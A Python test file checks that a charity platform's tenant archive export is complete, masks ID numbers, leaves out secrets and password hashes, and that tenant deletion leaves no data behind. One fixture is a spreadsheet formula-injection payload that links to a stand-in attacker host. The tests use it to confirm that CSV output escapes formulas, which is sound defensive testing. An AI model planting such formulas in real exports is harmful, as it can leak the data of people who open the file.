"""Archive: the export holds every row the tenant owns (and its documents); deletion after the
retention period leaves nothing of the tenant in any table that has a `tenant` column."""
from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import secrets
import uuid
import zipfile

import pytest

from sila.platform import directory
from sila.platform.db import tenant_scope
from sila.platform.settings import get_settings
from support.clients import operator_login
from support.db import owner_connection, tenant_tables
from support.gateways import use_gateway

FORMULA = '=HYPERLINK("http://evil.test/?leak=1","click")'
PDF = b"%PDF-1.4\n% test tool document\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"


async def rows_of(tenant_id) -> dict[str, set[str]]:
    conn = await owner_connection()
    try:
        return {t: {str(r["id"]) for r in await conn.fetch(f'select id from "{t}" where tenant = $1', tenant_id)}
                for t in await tenant_tables(conn)}
    finally:
        await conn.close()


async def populated_tenant(make_staff, other_tenant):
    """A charity that has lived a little: signed up, staff, an invitation, a document, a
    beneficiary with consent, a support grant. All through the real services."""
    from sila.platform.accounts.services import add_member, invite
    from sila.tenants.beneficiaries.forms import ApplicantInput
    from sila.platform.identity import valid_test_id
    from sila.tenants.beneficiaries.services import find_or_create_in_scope, record_consent_in_scope
    from sila.tenants.onboarding.services import register
    from sila.tenants.policy.services import store_document
    from sila.platform.operator import support

    slug = f"a{secrets.token_hex(4)}"
    tenant = await register(
        {"slug": slug, "kind": "waqf", "name_ar": "وقف الخير", "name_en": f"Khair {slug}", "regulator": "awqaf",
         "licence_number": "77", "region": "riyadh", "city": "الرياض"},
        {"email": f"{slug}@waqf.test", "name": "عبدالله"}, "Sila-test-Passw0rd", auto_approve=True, lang="ar")
    # Sign-up makes no account until the address is confirmed: the admin comes through the real service.
    admin_id = (await make_staff(tenant, "admin")).id
    officer = await make_staff(tenant, "relations_officer")
    shared = await make_staff(other_tenant, "admin")  # works for another charity too: must survive
    await add_member(tenant, email=shared.email, name="مشترك", role="committee_member")
    await invite(tenant, email=f"new-{slug}@waqf.test", role="social_researcher", invited_by=admin_id, lang="ar")
    document = await store_document(tenant.id, "tool", "دليل البحث الاجتماعي.pdf", PDF, actor=admin_id)
    id_number = valid_test_id("1" + str(secrets.randbelow(10 ** 7)).zfill(7))
    async with tenant_scope(tenant.id):
        beneficiary, _ = await find_or_create_in_scope(tenant.id, ApplicantInput(
            id_number=id_number, name="فاطمة المستفيدة", mobile="+966550000001", email="", preferred_channel="sms",
            preferred_language="ar", city="الرياض", category="widow", household_size=3), update_contact=False)
        await record_consent_in_scope(tenant.id, beneficiary, form="staff_intake", text=FORMULA,
                                      policy_version_number=None, channel="interview")
    # A gateway: its secrets are encrypted per channel (the export once failed on them with InvalidTag).

    await use_gateway(tenant.id, "http://127.0.0.1:9", secret="gateway-secret-key-4242")
    from sila.platform.auth import CurrentUser

    admin = CurrentUser(id=admin_id, email=f"{slug}@waqf.test", name="", roles=frozenset({"admin"}),
                        preferred_language="ar")
    await support.create_grant(tenant, admin, 1, "", "127.0.0.1")
    return tenant, {"officer": officer, "shared": shared, "document": document, "id_number": id_number}


async def wait_for_export(export_id, timeout: float = 60.0) -> dict:
    """Build it as the worker would (if no worker has it already), then wait until it is done."""
    from sila.platform.operator import export

    await export.build_export(export_id)
    for _ in range(int(timeout * 5)):
        conn = await owner_connection()
        try:
            row = dict(await conn.fetchrow("select * from tenant_export where id = $1", export_id))
        finally:
            await conn.close()
        if row["status"] in ("done", "failed"):
            return row
        await asyncio.sleep(0.2)
    raise AssertionError("export not built")


async def test_export_holds_every_row_and_document_and_deletion_leaves_nothing(
        server, operator_client, make_tenant, make_staff, make_operator):
    other = await make_tenant()
    tenant, facts = await populated_tenant(make_staff, other)
    op = operator_client
    base = f"/operator/tenants/{tenant.id}"
    before_other = await rows_of(other.id)

    # Deletion is refused while the tenant is live.
    assert op.post(f"{base}/delete", {"confirm": tenant.slug}).status_code == 409
    assert op.post(f"{base}/lifecycle/archive", {"reason": "حُلّ الوقف", "retention_days": "90"}).status_code == 303
    assert op.post(f"{base}/export").status_code == 303
    conn = await owner_connection()
    try:
        export_id = await conn.fetchval("select id from tenant_export where tenant = $1", tenant.id)
    finally:
        await conn.close()
    # Progress is visible while it waits (htmx polls this row).
    row_html = op.get(f"{base}/exports/{export_id}").text
    assert 'hx-trigger="every 2s"' in row_html and "<progress" in row_html
    expected = await rows_of(tenant.id)  # what exists when the build starts (its own email comes after)
    done = await wait_for_export(export_id)
    assert done["status"] == "done", done["error"]
    row_html = op.get(f"{base}/exports/{export_id}").text
    assert "hx-trigger" not in row_html and 'value="100"' in row_html

    # Completeness: every row of every tenant-owned table is in the ZIP, as JSON and as CSV.
    path = directory.tenant_exports_dir(tenant.id) / f"{export_id}.zip"
    with zipfile.ZipFile(path) as zf:
        manifest = json.loads(zf.read("manifest.json"))
        for table, ids in expected.items():
            rows = json.loads(zf.read(f"tables/{table}.json"))
            exported = {r["id"] for r in rows}
            assert ids <= exported, (table, ids - exported)
            with zf.open(f"tables/{table}.csv") as fh:
                assert len(list(csv.DictReader(io.TextIOWrapper(fh, encoding="utf-8-sig")))) == len(rows), table
            assert manifest["tables"][table] == len(rows)
        assert {"beneficiary", "beneficiary_consent", "document", "membership", "auth_token", "audit_entry",
                "outbox", "support_grant", "tenant_profile"} <= {t for t, ids in expected.items() if ids}
        # Documents come out as files; ID numbers masked to their last four digits, nowhere in full.
        document = next(r for r in json.loads(zf.read("tables/document.json")) if r["id"] == str(facts["document"]))
        assert zf.read(document["content"]) == PDF
        beneficiary = json.loads(zf.read("tables/beneficiary.json"))[0]
        assert beneficiary["id_number"] == "******" + facts["id_number"][-4:] and "id_number_enc" not in beneficiary
        assert beneficiary["id_hash"] is None
        assert all(facts["id_number"].encode() not in zf.read(name) for name in zf.namelist())
        # The gateway is there, its keys are not.
        [gateway] = json.loads(zf.read("tables/provider_config.json"))
        assert gateway["channel"] == "sms" and gateway["secret"] is None
        assert all(b"gateway-secret-key-4242" not in zf.read(name) for name in zf.namelist())
        # A formula typed into any field is text in the CSV (a leading quote), exact in the JSON.
        [consent] = json.loads(zf.read("tables/beneficiary_consent.json"))
        assert consent["text"] == FORMULA
        with zf.open("tables/beneficiary_consent.csv") as fh:
            [consent_csv] = list(csv.DictReader(io.TextIOWrapper(fh, encoding="utf-8-sig")))
        assert consent_csv["text"] == "'" + FORMULA
        for name in (n for n in zf.namelist() if n.endswith(".csv")):
            with zf.open(name) as fh:
                for line in csv.reader(io.TextIOWrapper(fh, encoding="utf-8-sig")):
                    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in line), (name, line)
        # Staff of this tenant come along, without their password hashes.
        staff = {r["email"]: r for r in json.loads(zf.read("tables/staff_user.json"))}
        assert facts["officer"].email in staff and all(r["password_hash"] is None for r in staff.values())
    # The admins are told it is ready, with no link; a signed-in operator downloads it through a
    # link made for them, once, within 15 minutes, and the download is in both audits.
    async with tenant_scope(tenant.id) as tx:
        body = await tx.connection.fetchval(
            "select body_text from outbox where kind = 'platform.export_ready' order by created_at desc limit 1")
    assert done["sha256"] in body and "/export/" not in body and not re.search(r"https?://", body)
    made = op.post(f"{base}/exports/{export_id}/download")
    assert made.status_code == 303 and made.headers["location"].startswith("/export/")
    link = made.headers["location"]
    from sila.platform.auth import token_hash
    from sila.platform.operator import export as export_module

    redis = __import__("redis").Redis.from_url(get_settings().redis_url)
    assert 0 < redis.ttl(export_module.LINK_KEY + token_hash(link.rsplit("/", 1)[1])) <= 900
    anonymous = server.client().get(link)
    assert anonymous.status_code != 200 and "zip" not in anonymous.headers.get("content-type", "")
    assert server.client(other.slug).get(link).status_code == 404
    other_operator = server.client()

    operator_login(other_operator, await make_operator())
    assert other_operator.get(link).status_code == 404  # made for another operator: refused, and spent
    assert op.get(link).status_code == 404
    made = op.post(f"{base}/exports/{export_id}/download")
    link = made.headers["location"]
    download = op.get(link)
    assert download.status_code == 200 and download.headers["content-type"] == "application/zip"
    assert download.content == path.read_bytes() and download.headers["cache-control"] == "no-store"
    assert op.get(link).status_code == 404  # once
    assert op.get("/export/not-a-real-token").status_code == 404
    assert op.post(f"/operator/tenants/{other.id}/exports/{export_id}/download").status_code == 404
    async with tenant_scope(tenant.id) as tx:
        seen = await tx.connection.fetch(
            "select actor_label, after::text from audit_entry where action = 'tenant.export_downloaded'")
    assert len(seen) == 1 and op.operator.email in seen[0]["actor_label"]
    conn = await owner_connection()
    try:
        assert await conn.fetchval("""select count(*) from operator_audit where action = 'tenant.export_downloaded'
                                      and subject_tenant = $1 and operator = $2""", tenant.id, op.operator.id) == 1
    finally:
        await conn.close()

    # Deletion: not before the retention period ends, and only with the address typed.
    assert op.post(f"{base}/delete", {"confirm": tenant.slug}).status_code == 409
    conn = await owner_connection()
    try:  # ninety days later
        await conn.execute("update tenant set delete_after = now() - interval '1 minute' where id = $1", tenant.id)
    finally:
        await conn.close()
    assert op.post(f"{base}/delete", {"confirm": "wrong"}).status_code == 409
    assert op.post(f"{base}/delete", {"confirm": tenant.slug}).status_code == 303

    leftovers = {t: ids for t, ids in (await rows_of(tenant.id)).items() if ids}
    assert leftovers == {}, leftovers
    conn = await owner_connection()
    try:
        assert await conn.fetchval("select count(*) from tenant where id = $1", tenant.id) == 0
        emails = {r["email"] for r in await conn.fetch("select email from staff_user")}
        assert facts["officer"].email not in emails and f"{tenant.slug}@waqf.test" not in emails
        assert facts["shared"].email in emails  # still works for the other charity
        # Tables referring to the tenant by another column name are covered too.
        for r in await conn.fetch(
                """select conrelid::regclass::text as t, a.attname as col from pg_constraint c
                   join pg_attribute a on a.attrelid = c.conrelid and a.attnum = any(c.conkey)
                   where c.contype = 'f' and c.confrelid = 'tenant'::regclass"""):
            assert await conn.fetchval(f'select count(*) from {r["t"]} where "{r["col"]}" = $1', tenant.id) == 0
    finally:
        await conn.close()
    assert not path.exists() and not path.parent.exists()
    assert op.post(f"{base}/exports/{export_id}/download").status_code == 404
    assert server.client(tenant.slug).get("/").status_code == 404
    # The other tenant lost nothing; the operator audit keeps who deleted what, and why not more.
    # (The session worker's beat may have given it its default survey meanwhile: only losses count.)
    after_other = await rows_of(other.id)
    assert all(ids <= after_other[table] for table, ids in before_other.items()), before_other
    audit_page = op.get("/operator/audit").text
    assert tenant.slug in audit_page and op.operator.email in audit_page


def urlsplit_path(link: str) -> str:
    from urllib.parse import urlsplit

    return urlsplit(link).path


async def test_deletion_needs_a_built_export(operator_client, make_tenant):
    tenant = await make_tenant()
    op = operator_client
    op.post(f"/operator/tenants/{tenant.id}/lifecycle/archive", {"reason": "x", "retention_days": "0"})
    response = op.post(f"/operator/tenants/{tenant.id}/delete", {"confirm": tenant.slug})
    assert response.status_code == 409 and "أعدّ تصدير الأرشيف قبل الحذف" in response.text


async def test_building_twice_is_harmless(operator_client, make_tenant, make_staff):
    from sila.platform.operator import export

    tenant = await make_tenant()
    await make_staff(tenant, "admin")
    operator_client.post(f"/operator/tenants/{tenant.id}/export")
    operator_client.post(f"/operator/tenants/{tenant.id}/export")  # asking again re-dispatches the same one
    conn = await owner_connection()
    try:
        ids = [r["id"] for r in await conn.fetch("select id from tenant_export where tenant = $1", tenant.id)]
    finally:
        await conn.close()
    assert len(ids) == 1
    first = await wait_for_export(ids[0])
    assert first["status"] == "done"
    assert await export.build_export(ids[0]) is None  # redelivered task: nothing happens
    assert await export.build_export(uuid.uuid4()) is None  # gone: not an error


async def test_a_worker_builds_the_export(operator_client, make_tenant, make_staff, celery_worker):
    from sila.workers.celery_app import app

    if "sila.platform.operator.tasks" not in (app.conf.include or ()):
        pytest.skip("sila.platform.operator.tasks is not yet in the Celery app's include (lead to wire)")
    tenant = await make_tenant()
    await make_staff(tenant, "admin")
    operator_client.post(f"/operator/tenants/{tenant.id}/export")
    for _ in range(150):
        conn = await owner_connection()
        try:
            status = await conn.fetchval("select status from tenant_export where tenant = $1", tenant.id)
        finally:
            await conn.close()
        if status == "done":
            return
        await asyncio.sleep(0.2)
    raise AssertionError(f"the worker did not build the export (status {status})")
